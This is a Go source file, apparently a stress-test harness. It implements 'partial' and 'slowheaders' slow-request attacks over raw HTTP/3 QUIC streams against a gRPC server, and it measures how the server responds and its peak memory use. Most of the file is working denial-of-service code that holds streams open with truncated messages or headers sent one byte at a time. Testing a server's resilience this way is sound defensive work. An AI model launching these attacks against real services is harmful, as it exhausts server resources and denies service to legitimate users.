// SPDX-License-Identifier: MIT OR Apache-2.0
// Attacks on raw QUIC streams (quicgo_abuse -attack partial|slowheaders):
// request bytes written frame by frame, so that a request can stop half-way
// through its HEADERS frame or its message, and the server's answer read
// frame by frame (its HEADERS and trailers, or a stream reset).
//
//	partial      -streams requests, each a whole HEADERS frame and a DATA
//	             frame with the first -part bytes of a -size-byte gRPC
//	             message (the server waits for the rest), then nothing.
//	slowheaders  -streams requests, each with the frame header and half of
//	             its HEADERS frame's field section; then one more byte of
//	             each every -trickle, until the server answered them all.
//
// Each stream's outcome is its grpc-status (from the server's response
// HEADERS or trailers) or the error code of a reset. Once every stream has
// one (or -max passed), the client waits up to -hold for the server to close
// the connection (with no call left it is idle). One line of JSON: the
// outcomes and when they came, bytes sent, how and when the connection
// ended, the peak resident memory of the server (-pid) seen meanwhile.
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"github.com/lucas-clemente/quic-go"
	"github.com/lucas-clemente/quic-go/quicvarint"
	"github.com/marten-seemann/qpack"
)

type rawOpts struct {
	attack             string
	addr               string
	streams, size      int
	part               int
	trickle, max, hold time.Duration
	pid                int
}

type outcome struct {
	what string // "grpc-status N" or "reset 0xN" or "error: ..."
	at   float64
}

func frame(t uint64, payload []byte) []byte {
	var b bytes.Buffer
	quicvarint.Write(&b, t)
	quicvarint.Write(&b, uint64(len(payload)))
	b.Write(payload)
	return b.Bytes()
}

func requestHeaders() []byte {
	var block bytes.Buffer
	enc := qpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", "localhost"},
		{":path", "/amaters.v1.AmateRS/Execute"}, {"content-type", "application/grpc"}, {"te", "trailers"},
		{"x-padding", string(bytes.Repeat([]byte{'p'}, 200))}} {
		enc.WriteField(qpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return frame(0x1, block.Bytes())
}

// readOutcome reads the server's frames on s until a grpc-status or an error.
func readOutcome(s quic.Stream) string {
	br := byteReader{s}
	for {
		t, err := quicvarint.Read(br)
		if err == nil {
			var l uint64
			if l, err = quicvarint.Read(br); err == nil {
				p := make([]byte, l)
				if _, err = io.ReadFull(s, p); err == nil && t == 0x1 {
					fields, derr := qpack.NewDecoder(nil).DecodeFull(p)
					if derr != nil {
						return "error: bad field section: " + derr.Error()
					}
					for _, f := range fields {
						if f.Name == "grpc-status" {
							return "grpc-status " + f.Value
						}
					}
				}
			}
		}
		if err != nil {
			var se *quic.StreamError
			if errors.As(err, &se) {
				return fmt.Sprintf("reset 0x%x", uint64(se.ErrorCode))
			}
			return "error: " + err.Error()
		}
	}
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}

type byteReader struct{ r io.Reader }

func (b byteReader) ReadByte() (byte, error) {
	var c [1]byte
	_, err := io.ReadFull(b.r, c[:])
	return c[0], err
}

func runRaw(o rawOpts, conn quic.Connection) {
	t0 := time.Now()
	since := func() float64 { return float64(time.Since(t0).Milliseconds()) / 1000 }
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	// our control stream (type 0, empty SETTINGS); the server's
	// unidirectional streams are read and dropped; their end is the
	// connection's
	if ctl, err := conn.OpenUniStream(); err == nil {
		ctl.Write([]byte{0x00, 0x04, 0x00})
	}
	closed := make(chan string, 1)
	var closedAt float64
	go func() {
		for {
			u, err := conn.AcceptUniStream(context.Background())
			if err != nil {
				closedAt = since()
				closed <- err.Error()
				return
			}
			go io.Copy(io.Discard, u)
		}
	}()
	var peak int64
	go func() {
		for ctx.Err() == nil {
			if r := rssKB(o.pid); r > atomic.LoadInt64(&peak) {
				atomic.StoreInt64(&peak, r)
			}
			time.Sleep(50 * time.Millisecond)
		}
	}()

	hdr := requestHeaders()
	var first []byte // what each stream writes at once
	if o.attack == "slowheaders" {
		// the frame header and half of the field section
		first = hdr[:len(hdr)-(len(hdr)-3)/2]
	} else {
		first = append(append([]byte{}, hdr...), frame(0x0, message(o.size)[:5+o.part])...)
	}
	var sent int64
	outs := make([]outcome, o.streams)
	var mu sync.Mutex
	var wg sync.WaitGroup
	var done int64
	streams := make([]quic.Stream, o.streams)
	for i := range streams {
		s, err := conn.OpenStreamSync(ctx)
		if err != nil {
			fmt.Printf("{\"attack\": %q, \"error\": %q}\n", o.attack, err.Error())
			return
		}
		streams[i] = s
		wg.Add(2)
		go func(i int, s quic.Stream) { // its first bytes, as flow control lets them through
			defer wg.Done()
			if o.attack == "slowheaders" {
				return // written below, before any trickled byte
			}
			for off := 0; off < len(first); off += 16 << 10 {
				end := off + 16<<10
				if end > len(first) {
					end = len(first)
				}
				n, err := s.Write(first[off:end])
				atomic.AddInt64(&sent, int64(n))
				if err != nil {
					return
				}
			}
		}(i, s)
		if o.attack == "slowheaders" {
			n, _ := s.Write(first)
			atomic.AddInt64(&sent, int64(n))
		}
		go func(i int, s quic.Stream) {
			defer wg.Done()
			w := readOutcome(s)
			mu.Lock()
			outs[i] = outcome{w, since()}
			mu.Unlock()
			atomic.AddInt64(&done, 1)
			s.CancelWrite(0x10c) // H3_REQUEST_CANCELLED: nothing more of this request
		}(i, s)
	}
	// the rest of each HEADERS frame, one byte per stream every -trickle
	next := len(first)
	for atomic.LoadInt64(&done) < int64(o.streams) && time.Since(t0) < o.max {
		time.Sleep(o.trickle) // the attacker's pace, not a wait for the server
		if o.attack != "slowheaders" || next >= len(hdr) {
			continue
		}
		for _, s := range streams {
			if n, err := s.Write(hdr[next : next+1]); err == nil {
				atomic.AddInt64(&sent, int64(n))
			}
		}
		next++
	}
	end := "still open"
	if atomic.LoadInt64(&done) == int64(o.streams) {
		select {
		case end = <-closed:
		case <-time.After(o.hold):
		}
	}
	counts := map[string]int{}
	var at []float64
	mu.Lock()
	for _, x := range outs {
		if x.what == "" {
			x.what = "none"
		}
		counts[x.what]++
		at = append(at, x.at)
	}
	mu.Unlock()
	sort.Float64s(at)
	res := map[string]interface{}{"attack": o.attack, "streams": o.streams, "outcomes": counts,
		"first_s": at[0], "last_s": at[len(at)-1], "sent_bytes": atomic.LoadInt64(&sent),
		"header_bytes": len(hdr), "header_bytes_sent": min(next, len(hdr)), "peak_rss_kb": atomic.LoadInt64(&peak),
		"end": end, "closed_s": closedAt}
	out, _ := json.Marshal(res)
	fmt.Println(string(out))
	conn.CloseWithError(0x100, "")
	cancel()
}
